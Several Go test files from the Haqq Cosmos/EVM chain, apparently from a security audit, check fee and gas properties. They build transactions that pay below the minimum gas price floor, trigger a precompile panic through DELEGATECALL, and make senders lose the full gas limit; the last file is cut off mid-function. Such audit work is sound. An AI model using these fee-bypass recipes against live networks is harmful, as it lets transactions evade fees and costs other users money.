		sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(100, 18)))))

	c := &c07Chain{
		t: t, app: haqqApp, ctx: ctx, priv: priv, addr: addr,
		txc: encoding.MakeConfig(app.ModuleBasics).TxConfig,
	}
	// block 1 -> 2 -> 3: the second commit makes the CheckTx state carry a non-zero height
	// (the InitChain header has height 0, which makes SigVerification use account number 0).
	c.nextBlock()
	c.nextBlock()
	return c
}

// nextBlock runs EndBlock/Commit/BeginBlock through the real ABCI entry points (so that the
// feemarket EndBlocker sees the deliver-state block gas meter and records the block gas wanted).
func (c *c07Chain) nextBlock() {
	c.t.Helper()
	header := c.ctx.BlockHeader()
	c.app.EndBlock(abci.RequestEndBlock{Height: header.Height})
	_ = c.app.Commit()
	header.Height++
	header.AppHash = c.app.LastCommitID().Hash
	c.app.BeginBlock(abci.RequestBeginBlock{Header: header})
	c.ctx = c.app.BaseApp.NewContext(false, header)
}

func (c *c07Chain) baseFee() *big.Int {
	p := c.app.EvmKeeper.GetParams(c.ctx)
	return c.app.EvmKeeper.GetBaseFee(c.ctx, p.ChainConfig.EthereumConfig(c.app.EvmKeeper.ChainID()))
}

// floor = ceil(gasLimit x MinGasPrice), exactly as MinGasPriceDecorator computes it.
func (c *c07Chain) floor(gas uint64) sdkmath.Int {
	mgp := c.app.FeeMarketKeeper.GetParams(c.ctx).MinGasPrice
	return mgp.Mul(sdk.NewDecFromBigInt(new(big.Int).SetUint64(gas))).Ceil().RoundInt()
}

// buildTx signs a MsgSend of `amount` with SIGN_MODE_DIRECT. When tip != nil the tx carries
// ExtensionOptionDynamicFeeTx{MaxPriorityPrice: *tip}.
func (c *c07Chain) buildTx(gas uint64, fee, amount sdkmath.Int, tip *sdkmath.Int) sdk.Tx {
	c.t.Helper()
	t := c.t

	msg := &banktypes.MsgSend{
		FromAddress: c.addr.String(),
		ToAddress:   c07Recipient,
		Amount:      sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, amount)),
	}

	b := c.txc.NewTxBuilder()
	require.NoError(t, b.SetMsgs(msg))
	b.SetGasLimit(gas)
	b.SetFeeAmount(sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, fee)))

	if tip != nil {
		opt, err := codectypes.NewAnyWithValue(&haqqtypes.ExtensionOptionDynamicFeeTx{MaxPriorityPrice: *tip})
		require.NoError(t, err)
		eb, ok := b.(authtx.ExtensionOptionsTxBuilder)
		require.True(t, ok, "tx builder does not support extension options")
		eb.SetExtensionOptions(opt)
	}

	acc := c.app.AccountKeeper.GetAccount(c.ctx, c.addr)
	require.NotNil(t, acc)
	seq := acc.GetSequence()
	mode := signing.SignMode_SIGN_MODE_DIRECT

	require.NoError(t, b.SetSignatures(signing.SignatureV2{
		PubKey:   c.priv.PubKey(),
		Data:     &signing.SingleSignatureData{SignMode: mode},
		Sequence: seq,
	}))
	sig, err := clienttx.SignWithPrivKey(mode, authsigning.SignerData{
		ChainID:       c.ctx.ChainID(),
		AccountNumber: acc.GetAccountNumber(),
		Sequence:      seq,
	}, b, c.priv, c.txc, seq)
	require.NoError(t, err)
	require.NoError(t, b.SetSignatures(sig))

	return b.GetTx()
}

type c07Outcome struct {
	checkCode, deliverCode uint32
	checkLog, deliverLog   string
	paidBySender           sdkmath.Int // sender balance delta minus the amount sent
	receivedByCollector    sdkmath.Int // fee collector balance delta
}

// run pushes the tx through BaseApp.CheckTx and BaseApp.DeliverTx (production ante handler).
func (c *c07Chain) run(tx sdk.Tx, amount sdkmath.Int) c07Outcome {
	c.t.Helper()
	bz, err := c.txc.TxEncoder()(tx)
	require.NoError(c.t, err)

	collector := c.app.AccountKeeper.GetModuleAddress(authtypes.FeeCollectorName)
	// c.ctx shares the deliver-state multistore (BaseApp.NewContext(false, ...)).
	balBefore := c.app.BankKeeper.GetBalance(c.ctx, c.addr, utils.BaseDenom).Amount
	colBefore := c.app.BankKeeper.GetBalance(c.ctx, collector, utils.BaseDenom).Amount

	chk := c.app.BaseApp.CheckTx(abci.RequestCheckTx{Tx: bz, Type: abci.CheckTxType_New})
	del := c.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: bz})

	balAfter := c.app.BankKeeper.GetBalance(c.ctx, c.addr, utils.BaseDenom).Amount
	colAfter := c.app.BankKeeper.GetBalance(c.ctx, collector, utils.BaseDenom).Amount

	out := c07Outcome{
		checkCode: chk.Code, checkLog: chk.Log,
		deliverCode: del.Code, deliverLog: del.Log,
		paidBySender:        balBefore.Sub(balAfter),
		receivedByCollector: colAfter.Sub(colBefore),
	}
	if del.Code == 0 {
		out.paidBySender = out.paidBySender.Sub(amount)
	}
	return out
}

// assertFloor is the property: an ACCEPTED tx paid at least gasLimit x MinGasPrice.
// It returns false (and reports) when the property is violated.
func (c *c07Chain) assertFloor(name string, gas uint64, declared sdkmath.Int, out c07Outcome) {
	c.t.Helper()
	floor := c.floor(gas)
	p := c.app.FeeMarketKeeper.GetParams(c.ctx)
	c.t.Logf("[%s] height=%d NoBaseFee=%v EnableHeight=%d params.BaseFee=%s evm.GetBaseFee=%s MinGasPrice=%s gasLimit=%d",
		name, c.ctx.BlockHeight(), p.NoBaseFee, p.EnableHeight, p.BaseFee, c.baseFee(), p.MinGasPrice, gas)
	c.t.Logf("[%s] floor=gasLimit*MinGasPrice=%s declared=%s CheckTx.code=%d DeliverTx.code=%d paidBySender=%s feeCollectorDelta=%s",
		name, floor, declared, out.checkCode, out.deliverCode, out.paidBySender, out.receivedByCollector)

	if out.deliverCode != 0 {
		// rejected: the property is about accepted txs only
		c.t.Logf("[%s] tx rejected in DeliverTx: %s", name, out.deliverLog)
		require.True(c.t, out.paidBySender.IsZero(), "rejected tx must not pay")
		return
	}
	if out.paidBySender.LT(floor) || out.receivedByCollector.LT(floor) {
		c.t.Errorf("[%s] C07 VIOLATED: tx accepted in DeliverTx (and CheckTx code=%d) paying %s aISLM (fee collector +%s) < floor %s aISLM = %d gas x MinGasPrice %s; declared fee was %s; shortfall %s",
			name, out.checkCode, out.paidBySender, out.receivedByCollector, floor, gas, p.MinGasPrice, declared, floor.Sub(out.paidBySender))
	}
}

// witness runs the C07 scenario on chain c: a MsgSend carrying
// ExtensionOptionDynamicFeeTx{MaxPriorityPrice: 0} that declares exactly the floor. The property is
// checked on the outcome (accepted => paid >= floor; a rejection also satisfies it). A follow-up tx
// whose tip lifts the effective price to ceil(MinGasPrice) must be accepted and pay >= floor on
// any correct implementation, which keeps the test non-vacuous if a repair rejects the first tx.
func (c *c07Chain) witness(name string) {
	c.t.Helper()
	zeroTip := sdkmath.ZeroInt()
	amount := sdkmath.NewInt(1e14)

	declared := c.floor(c07GasLimit)
	out := c.run(c.buildTx(c07GasLimit, declared, amount, &zeroTip), amount)
	c.assertFloor(name, c07GasLimit, declared, out)

	ceilMin := c.app.FeeMarketKeeper.GetParams(c.ctx).MinGasPrice.Ceil().RoundInt()
	tip := ceilMin.Sub(sdkmath.NewIntFromBigInt(c.baseFee()))
	if tip.IsNegative() {
		tip = sdkmath.ZeroInt()
	}
	declared = ceilMin.Mul(sdkmath.NewIntFromUint64(c07GasLimit))
	out = c.run(c.buildTx(c07GasLimit, declared, amount, &tip), amount)
	require.Equal(c.t, uint32(0), out.deliverCode, "tx with tip=%s must be accepted: %s", tip, out.deliverLog)
	c.assertFloor(name+"/tip="+tip.String(), c07GasLimit, declared, out)
}

func TestZZC07DynamicFeeFloor(t *testing.T) {
	zeroTip := sdkmath.ZeroInt()
	amount := sdkmath.NewInt(1e14)

	// Harness control: same chain configuration as case A, tx WITHOUT the extension option.
	// tipCap defaults to MaxInt64, so the effective price is the declared fee cap and the
	// floor is paid in full. Must pass before and after any repair.
	t.Run("control_no_extension_option_NoBaseFee", func(t *testing.T) {
		c := c07NewChain(t, func(p *feemarkettypes.Params) { p.NoBaseFee = true })
		declared := c.floor(c07GasLimit)
		out := c.run(c.buildTx(c07GasLimit, declared, amount, nil), amount)
		require.Equal(t, uint32(0), out.deliverCode, out.deliverLog)
		c.assertFloor("control", c07GasLimit, declared, out)
	})

	// Control: declared fee below the floor is rejected by MinGasPriceDecorator (deliver mode too).
	t.Run("control_declared_below_floor_rejected", func(t *testing.T) {
		c := c07NewChain(t, func(p *feemarkettypes.Params) { p.NoBaseFee = true })
		declared := c.floor(c07GasLimit).SubRaw(1)
		out := c.run(c.buildTx(c07GasLimit, declared, amount, &zeroTip), amount)
		require.NotEqual(t, uint32(0), out.checkCode)
		require.NotEqual(t, uint32(0), out.deliverCode)
		require.Contains(t, out.deliverLog, "minimum global fee")
		c.assertFloor("below-floor", c07GasLimit, declared, out)
	})

	// Case A: NoBaseFee = true. feemarket.GetBaseFee returns nil, evm.GetBaseFee turns it
	// into 0 (London active), so effective price = min(0 + 0, feeCap) = 0: the tx is free.
	t.Run("A_NoBaseFee_true", func(t *testing.T) {
		c := c07NewChain(t, func(p *feemarkettypes.Params) { p.NoBaseFee = true })
		require.Zero(t, c.baseFee().Sign())
		c.witness("A")
	})

	// Case B: NoBaseFee = false but EnableHeight in the future. CalculateBaseFee returns nil
	// (BeginBlock never touches the base fee) while feemarket.GetBaseFee ignores EnableHeight
	// and returns the static params.BaseFee (default 1e9) < MinGasPrice (default 20e9).
	t.Run("B_EnableHeight_in_future", func(t *testing.T) {
		c := c07NewChain(t, func(p *feemarkettypes.Params) { p.EnableHeight = 1_000_000 })
		require.Equal(t, "1000000000", c.baseFee().String())
		c.witness("B")
	})

	// Case C: fractional MinGasPrice. The decreasing branch of CalculateBaseFee clamps to
	// MinGasPrice.TruncateInt(), so the steady-state base fee is floor(MinGasPrice) < MinGasPrice.
	t.Run("C_fractional_MinGasPrice", func(t *testing.T) {
		c := c07NewChain(t, func(p *feemarkettypes.Params) {
			p.MinGasPrice = sdk.MustNewDecFromStr("20000000000.5")
		})
		require.Equal(t, "20000000000", c.baseFee().String())
		c.witness("C")
	})

	// Case C2: same configuration as C, but the tx carries NO extension option (so this also covers
	// the EIP-712 route, which cannot carry ExtensionOptionDynamicFeeTx). The fee checker derives the
	// price cap as floor(declaredFee / gas) and charges cap x gas, which drops the fractional part of
	// MinGasPrice: declared = ceil(gas x 20000000000.5) is accepted, gas x 20000000000 is charged.
	t.Run("C2_fractional_MinGasPrice_no_extension_option", func(t *testing.T) {
		c := c07NewChain(t, func(p *feemarkettypes.Params) {
			p.MinGasPrice = sdk.MustNewDecFromStr("20000000000.5")
		})
		declared := c.floor(c07GasLimit)
		out := c.run(c.buildTx(c07GasLimit, declared, amount, nil), amount)
		c.assertFloor("C2", c07GasLimit, declared, out)
	})

	// Default-like genesis (NoBaseFee=false, EnableHeight=0, BaseFee=1e9, MinGasPrice=20e9):
	// the first BeginBlock takes the decreasing branch and clamps the base fee up to
	// MinGasPrice, so the floor holds. Documents the NON-reachable configuration (passes).
	t.Run("default_genesis_holds", func(t *testing.T) {
		c := c07NewChain(t, nil)
		require.Equal(t, "20000000000", c.baseFee().String())
		c.witness("default")
	})

	// Case D: governance raises MinGasPrice on a running default chain (MsgUpdateParams executed
	// by the gov EndBlocker, i.e. in the deliver state of block N). MsgUpdateParams overwrites the
	// whole Params struct including BaseFee, so the proposal also fixes the base fee.
	//  D1: quiet block N (gas wanted < target): BeginBlock N+1 clamps base fee to the new floor.
	//  D2: busy block N (gas wanted > target; consensus MaxGas bounded): CalculateBaseFee takes
	//      the increasing branch, which has no clamp, so base fee < MinGasPrice in block N+1
	//      (and stays below while blocks stay above target, +12.5 % per block at most).
	raise := func(c *c07Chain, newMin sdk.Dec) {
		p := c.app.FeeMarketKeeper.GetParams(c.ctx)
		p.MinGasPrice = newMin
		_, err := c.app.FeeMarketKeeper.UpdateParams(sdk.WrapSDKContext(c.ctx), &feemarkettypes.MsgUpdateParams{
			Authority: authtypes.NewModuleAddress(govtypes.ModuleName).String(),
			Params:    p,
		})
		require.NoError(c.t, err)
	}

	t.Run("D1_MinGasPrice_raised_quiet_block_holds", func(t *testing.T) {
		c := c07NewChain(t, nil)
		raise(c, sdk.NewDec(40_000_000_000))
		c.nextBlock()
		require.Equal(t, "40000000000", c.baseFee().String())
		c.witness("D1")
	})

	t.Run("D2_MinGasPrice_raised_busy_block", func(t *testing.T) {
		// bounded block gas: target = MaxGas / ElasticityMultiplier = 20M
		saved := app.DefaultConsensusParams.Block.MaxGas
		app.DefaultConsensusParams.Block.MaxGas = 40_000_000
		defer func() { app.DefaultConsensusParams.Block.MaxGas = saved }()

		c := c07NewChain(t, func(p *feemarkettypes.Params) { p.MinGasMultiplier = sdk.OneDec() })
		require.Equal(t, "20000000000", c.baseFee().String())

		// block N: one real tx with a 30M gas limit makes the block "busy" (gas wanted 30M > 20M)
		bigGas := uint64(30_000_000)
		out := c.run(c.buildTx(bigGas, c.floor(bigGas), amount, nil), amount)
		require.Equal(t, uint32(0), out.deliverCode, out.deliverLog)
		// ... and the gov EndBlocker of block N executes the params update
		raise(c, sdk.NewDec(40_000_000_000))
		c.nextBlock()

		t.Logf("[D2] base fee in block N+1 = %s, MinGasPrice = %s", c.baseFee(), c.app.FeeMarketKeeper.GetParams(c.ctx).MinGasPrice)
		c.witness("D2")
	})
}
