package staking_test

import (
	"math/big"

	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/core/vm"

	"github.com/haqq-network/haqq/app"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// A DELEGATECALL reaches a precompile with a nil value (go-ethereum fork, core/vm/evm.go: RunPrecompiledContract(p, caller,
// input, gas, nil, true)). With empty calldata RunSetup asks contract.Value().Sign(): the call must fail like any other
// refused call, not panic (a panic is recovered only by baseapp: the transaction fails with gas_used 0 and the sender has
// paid his whole gas limit).
func (s *PrecompileTestSuite) TestZZDelegateCallWithEmptyCalldataDoesNotPanic() {
	s.SetupTest()
	baseFee := s.app.FeeMarketKeeper.GetBaseFee(s.ctx)

	contract := vm.NewPrecompile(vm.AccountRef(s.address), s.precompile, nil, 200000) // value == nil, as under DELEGATECALL
	contractAddr := contract.Address()
	contract.Input = []byte{}

	txArgs := evmtypes.EvmTxArgs{
		ChainID: s.app.EvmKeeper.ChainID(), Nonce: 0, To: &contractAddr, GasLimit: 200000,
		GasPrice: app.MinGasPrices.BigInt(), GasFeeCap: baseFee, GasTipCap: big.NewInt(1), Accesses: &ethtypes.AccessList{},
	}
	msgEthereumTx := evmtypes.NewTx(&txArgs)
	msgEthereumTx.From = s.address.String()
	s.Require().NoError(msgEthereumTx.Sign(s.ethSigner, s.signer))
	cfg, err := s.app.EvmKeeper.EVMConfig(s.ctx, s.ctx.BlockHeader().ProposerAddress, s.app.EvmKeeper.ChainID())
	s.Require().NoError(err)
	msg, err := msgEthereumTx.AsMessage(s.ethSigner, baseFee)
	s.Require().NoError(err)
	evm := s.app.EvmKeeper.NewEVM(s.ctx, msg, cfg, nil, s.stateDB)

	var runErr error
	s.Require().NotPanics(func() { _, runErr = s.precompile.Run(evm, contract, true) },
		"a delegate call with empty calldata must be refused, not panic")
	s.Require().Error(runErr)
}
