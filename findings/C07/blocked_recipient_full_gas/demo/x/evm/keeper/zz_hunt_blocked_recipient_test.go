package keeper_test

import (
	"math/big"
	"testing"

	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/testutil/integration/haqq/factory"
	"github.com/haqq-network/haqq/testutil/integration/haqq/grpc"
	testkeyring "github.com/haqq-network/haqq/testutil/integration/haqq/keyring"
	"github.com/haqq-network/haqq/testutil/integration/haqq/network"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// Property C07: for an executed Ethereum transaction gasUsed is the larger of the EVM gas consumed after
// refunds and minGasMultiplier x gasLimit; the sender pays exactly gasUsed x effectiveGasPrice and the rest
// of the up-front deduction returns to the sender.
//
// A contract pays 1 wei to an address taken from its calldata and ignores the result of the CALL (the
// usual "push payment"). The EVM run is the same whoever the recipient is (about 60k gas, well below half
// of the 400k gas limit), so the sender has to be charged minGasMultiplier x gasLimit = 200k gas in both
// cases. When the recipient is a module account the EVM run still
// succeeds, but the 1 wei credit is refused when the StateDB is committed: the whole transaction fails with
// a non-VM error, nothing is refunded and the sender pays the full gas limit.
func TestZZHuntBlockedRecipientChargesFullGasLimit(t *testing.T) {
	keyring := testkeyring.New(2)
	nw := network.NewUnitTestNetwork(network.WithPreFundedAccounts(keyring.GetAllAccAddrs()...))
	gh := grpc.NewIntegrationHandler(nw)
	tf := factory.New(nw, gh)
	require.NoError(t, nw.NextBlock())

	denom := nw.GetDenom()
	collector := nw.App.AccountKeeper.GetModuleAddress(authtypes.FeeCollectorName)
	bal := func(a sdk.AccAddress) *big.Int {
		return nw.App.BankKeeper.GetBalance(nw.GetContext(), a, denom).Amount.BigInt()
	}
	multiplier := nw.App.FeeMarketKeeper.GetParams(nw.GetContext()).MinGasMultiplier
	price := big.NewInt(1_000_000_000) // legacy tx: effective price == gas price

	type outcome struct {
		res                      abci.ResponseDeliverTx
		senderPaid, collectorGot *big.Int
	}
	deliver := func(idx int, args evmtypes.EvmTxArgs) outcome {
		args.GasPrice = price
		sender := keyring.GetAccAddr(idx)
		senderBefore, collectorBefore := bal(sender), bal(collector)
		res, _ := tf.ExecuteEthTx(keyring.GetPrivKey(idx), args) // the error only repeats res.Code / VmError
		paid := new(big.Int).Sub(senderBefore, bal(sender))
		if args.Amount != nil && res.IsOK() {
			paid.Sub(paid, args.Amount)
		}
		return outcome{res, paid, new(big.Int).Sub(bal(collector), collectorBefore)}
	}

	// payer: CALL(gas: all, to: calldata[0:32], value: 1 wei, no data), result ignored; STOP
	//   PUSH1 0 PUSH1 0 PUSH1 0 PUSH1 0 PUSH1 1 PUSH1 0 CALLDATALOAD GAS CALL STOP
	runtime := "6000600060006000600160003" + "55af100"
	initCode := common.FromHex("0x601080600b6000396000f3" + runtime)
	nonce := nw.App.EvmKeeper.GetNonce(nw.GetContext(), keyring.GetAddr(1))
	dep := deliver(1, evmtypes.EvmTxArgs{GasLimit: 200_000, Input: initCode, Amount: big.NewInt(1000)})
	require.True(t, dep.res.IsOK(), dep.res.Log)
	payer := crypto.CreateAddress(keyring.GetAddr(1), nonce)
	require.Equal(t, common.FromHex(runtime), nw.App.EvmKeeper.GetCode(nw.GetContext(),
		common.BytesToHash(nw.App.EvmKeeper.GetAccountWithoutBalance(nw.GetContext(), payer).CodeHash)))
	require.NoError(t, nw.NextBlock())

	const gasLimit = 400_000
	expGasUsed := multiplier.MulInt64(gasLimit).TruncateInt().Uint64() // EVM gas (~60k) is below it
	expPaid := new(big.Int).Mul(new(big.Int).SetUint64(expGasUsed), price)

	check := func(name string, recipient common.Address) {
		payerBefore := bal(payer.Bytes())
		o := deliver(0, evmtypes.EvmTxArgs{To: &payer, GasLimit: gasLimit, Input: common.LeftPadBytes(recipient.Bytes(), 32)})
		t.Logf("%s: code=%d gas_wanted=%d gas_used=%d senderPaid=%s collectorGot=%s payerDelta=%s log=%.160s",
			name, o.res.Code, o.res.GasWanted, o.res.GasUsed, o.senderPaid, o.collectorGot,
			new(big.Int).Sub(bal(payer.Bytes()), payerBefore), o.res.Log)

		assert.Equal(t, expGasUsed, uint64(o.res.GasUsed), //nolint:gosec
			"%s: gasUsed must be max(EVM gas after refunds, minGasMultiplier x gasLimit) = %d", name, expGasUsed)
		assert.Equal(t, expPaid.String(), o.senderPaid.String(),
			"%s: the sender pays gasUsed x effectiveGasPrice, the rest of the up-front deduction returns", name)
		assert.Equal(t, expPaid.String(), o.collectorGot.String(),
			"%s: the fee collector receives exactly gasUsed x effectiveGasPrice", name)
	}

	check("recipient = fresh externally owned address", common.HexToAddress("0x00000000000000000000000000000000000c0ffe"))
	check("recipient = distribution module account", common.BytesToAddress(authtypes.NewModuleAddress(distrtypes.ModuleName)))
}
