package keeper_test

import (
	"math/big"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/cosmos/gogoproto/proto"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// TestZZHuntMultiMsgPrecompileGas: an Ethereum message must be charged for the gas
// it consumes itself. The very same call to the bank precompile (same gas limit, same
// gas price, same state) is delivered twice: once alone and once as the second message
// of a two-message Ethereum tx whose first message is an unrelated contract creation.
// Its gas used / success and therefore the sender's payment must not depend on how much
// gas the previous message of the batch used.
func (suite *KeeperTestSuite) TestZZHuntMultiMsgPrecompileGas() {
	suite.SetupTest()
	suite.Commit()

	from, priv := utiltx.NewAddrKey()
	amount, _ := sdkmath.NewIntFromString("1000000000000000000000")
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, from.Bytes(), sdk.NewCoins(sdk.NewCoin(suite.denom, amount))))

	chainID := suite.app.EvmKeeper.ChainID()
	feeCollector := authtypes.NewModuleAddress(authtypes.FeeCollectorName)
	price := big.NewInt(1_000_000_000)
	txConfig := encoding.MakeConfig(app.ModuleBasics).TxConfig

	bal := func(addr sdk.AccAddress) *big.Int {
		return suite.app.BankKeeper.GetBalance(suite.ctx, addr, suite.denom).Amount.BigInt()
	}
	deliver := func(msgs ...sdk.Msg) (abci.ResponseDeliverTx, []*evmtypes.MsgEthereumTxResponse) {
		ethTx, err := utiltx.PrepareEthTx(txConfig, suite.app, priv, msgs...)
		suite.Require().NoError(err)
		bz, err := txConfig.TxEncoder()(ethTx)
		suite.Require().NoError(err)
		res := suite.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: bz})
		suite.Require().True(res.IsOK(), res.Log)
		var txData sdk.TxMsgData
		suite.Require().NoError(proto.Unmarshal(res.Data, &txData))
		out := make([]*evmtypes.MsgEthereumTxResponse, len(txData.MsgResponses))
		for i := range txData.MsgResponses {
			out[i] = &evmtypes.MsgEthereumTxResponse{}
			suite.Require().NoError(proto.Unmarshal(txData.MsgResponses[i].Value, out[i]))
		}
		return res, out
	}
	newMsg := func(nonce uint64, to *common.Address, gas uint64, input []byte) *evmtypes.MsgEthereumTx {
		m := evmtypes.NewTx(&evmtypes.EvmTxArgs{ChainID: chainID, Nonce: nonce, To: to, GasLimit: gas, GasPrice: price, Input: input})
		m.From = from.String()
		return m
	}

	// message A: a plain contract creation that deploys 300 bytes of code (about 115k gas)
	//   PUSH2 0x012c DUP1 PUSH1 0x0c PUSH1 0 CODECOPY PUSH1 0 RETURN ++ 300 x STOP
	initCode := append([]byte{0x61, 0x01, 0x2c, 0x80, 0x60, 0x0c, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}, make([]byte, 300)...)
	const gasLimitA = uint64(200_000)

	// message B: bank precompile (0x..0804, active by default) balances(address) query
	bankPrecompile := common.HexToAddress("0x0000000000000000000000000000000000000804")
	callBalances := append(crypto.Keccak256([]byte("balances(address)"))[:4], common.LeftPadBytes(from.Bytes(), 32)...)
	const gasLimitB = uint64(40_000)

	// 1. A alone and B alone, each in its own Ethereum tx
	nonce := suite.app.EvmKeeper.GetNonce(suite.ctx, from)
	_, resA := deliver(newMsg(nonce, nil, gasLimitA, initCode))
	suite.Require().Empty(resA[0].VmError)
	_, resB := deliver(newMsg(nonce+1, &bankPrecompile, gasLimitB, callBalances))
	suite.Require().Empty(resB[0].VmError, "the precompile call succeeds with a 40k gas limit when sent alone")
	suite.Require().Less(resB[0].GasUsed, gasLimitB)
	gasAAlone, gasBAlone := resA[0].GasUsed, resB[0].GasUsed

	// 2. the same two messages in one Ethereum tx
	senderBefore, collectorBefore := bal(from.Bytes()), bal(feeCollector)
	txRes, batch := deliver(
		newMsg(nonce+2, nil, gasLimitA, initCode),
		newMsg(nonce+3, &bankPrecompile, gasLimitB, callBalances),
	)
	senderPaid := new(big.Int).Sub(senderBefore, bal(from.Bytes()))
	collectorGot := new(big.Int).Sub(bal(feeCollector), collectorBefore)

	suite.T().Logf("alone: A gasUsed=%d, B gasUsed=%d vmError=%q", gasAAlone, gasBAlone, resB[0].VmError)
	suite.T().Logf("batch: A gasUsed=%d, B gasUsed=%d vmError=%q; tx gasWanted=%d gasUsed=%d", batch[0].GasUsed, batch[1].GasUsed, batch[1].VmError, txRes.GasWanted, txRes.GasUsed)
	suite.T().Logf("batch: sender paid %s, fee collector received %s", senderPaid, collectorGot)

	suite.Require().Equal(gasAAlone, batch[0].GasUsed, "first message uses the same gas as alone")
	expectedPaid := new(big.Int).Mul(price, new(big.Int).SetUint64(gasAAlone+gasBAlone))

	suite.Assert().Empty(batch[1].VmError, "second message has the same gas limit as when sent alone and must not run out of gas")
	suite.Assert().Equal(gasBAlone, batch[1].GasUsed, "gas charged to the second message must not depend on the gas used by the first message")
	suite.Assert().Equal(expectedPaid.String(), senderPaid.String(), "sender pays (gasUsed_A + gasUsed_B) x gasPrice")
	suite.Assert().Equal(expectedPaid.String(), collectorGot.String(), "fee collector receives (gasUsed_A + gasUsed_B) x gasPrice")
}
