package evm_test

import (
	"math/big"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/crypto/ed25519"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// Property C07: for an Ethereum transaction that is included in a block the sender's net payment is
// gasUsed x effectiveGasPrice (gasUsed as reported in the DeliverTx response, never the whole
// up-front deduction unless gasUsed == gasLimit), the fee collector keeps exactly that amount and the rest
// of the up-front deduction returns to the sender.
//
// Three plain transfers with gas limits 50000, 70000 and 90000 are delivered in a block whose MaxGas is
// 100000. Each of them fits the block on its own (ante check "tx gas <= block gas limit") and each uses half
// of its gas limit (minGasMultiplier 0.5): 25000, 35000, 45000. The third one runs completely, then baseapp
// adds its 45000 gas to the block gas meter (60000 + 45000 > 100000), panics, and drops the branch of the
// state that held the message execution AND the gas refund - while the up-front deduction made by the ante
// handler was already written.
func TestZZHuntBlockGasOverflowKeepsWholeUpfrontFee(t *testing.T) {
	chainID := utils.MainNetChainID + "-1"
	haqq, valPub := app.Setup(false, nil, chainID)
	consAddr := sdk.ConsAddress(ed25519.PubKey(valPub).Address())

	header := testutil.NewHeader(1, time.Now().UTC(), chainID, consAddr, nil, nil)
	ctx := haqq.BaseApp.NewContext(false, header)

	// a chain with a block gas limit (every real network has one)
	const blockMaxGas = 100_000
	cp := haqq.GetConsensusParams(ctx)
	cp.Block.MaxGas = blockMaxGas
	haqq.StoreConsensusParams(ctx, cp)

	sender, priv := utiltx.NewAddrKey()
	recipient, _ := utiltx.NewAddrKey()
	funds := sdkmath.NewIntWithDecimal(1, 18)
	require.NoError(t, testutil.FundAccount(ctx, haqq.BankKeeper, sender.Bytes(), sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, funds))))

	// next block: BeginBlock installs the block gas meter with the limit stored above
	ctx, err := testutil.CommitAndCreateNewCtx(ctx, haqq, time.Second, nil)
	require.NoError(t, err)
	require.Equal(t, int64(blockMaxGas), haqq.GetConsensusParams(ctx).Block.MaxGas, "block gas limit")

	evmParams := haqq.EvmKeeper.GetParams(ctx)
	ethCfg := evmParams.ChainConfig.EthereumConfig(haqq.EvmKeeper.ChainID())
	baseFee := haqq.EvmKeeper.GetBaseFee(ctx, ethCfg)
	gasPrice := big.NewInt(1_000_000_000)
	require.True(t, baseFee.Cmp(gasPrice) <= 0, "gas price %s must cover base fee %s", gasPrice, baseFee)
	require.True(t, haqq.FeeMarketKeeper.GetParams(ctx).MinGasMultiplier.Equal(sdk.NewDecWithPrec(5, 1)))

	feeCollector := authtypes.NewModuleAddress(authtypes.FeeCollectorName)
	balanceOf := func(addr sdk.AccAddress) *big.Int {
		c := haqq.BaseApp.NewContext(false, ctx.BlockHeader())
		return haqq.BankKeeper.GetBalance(c, addr, utils.BaseDenom).Amount.BigInt()
	}

	txCfg := encoding.MakeConfig(app.ModuleBasics).TxConfig
	gasLimits := []uint64{50_000, 70_000, 90_000}
	deliver := func(nonce uint64) abci.ResponseDeliverTx {
		gasLimit := gasLimits[nonce]
		to := recipient
		msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
			ChainID:  haqq.EvmKeeper.ChainID(),
			Nonce:    nonce,
			To:       &to,
			Amount:   big.NewInt(1),
			GasLimit: gasLimit,
			GasPrice: gasPrice,
		})
		msg.From = sender.Hex()
		tx, err := utiltx.PrepareEthTx(txCfg, haqq, priv, msg)
		require.NoError(t, err)
		bz, err := txCfg.TxEncoder()(tx)
		require.NoError(t, err)
		return haqq.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: bz})
	}

	type outcome struct {
		res                       abci.ResponseDeliverTx
		senderPaid, collectorKept *big.Int
	}
	run := func(nonce uint64) outcome {
		s0, c0 := balanceOf(sender.Bytes()), balanceOf(feeCollector)
		res := deliver(nonce)
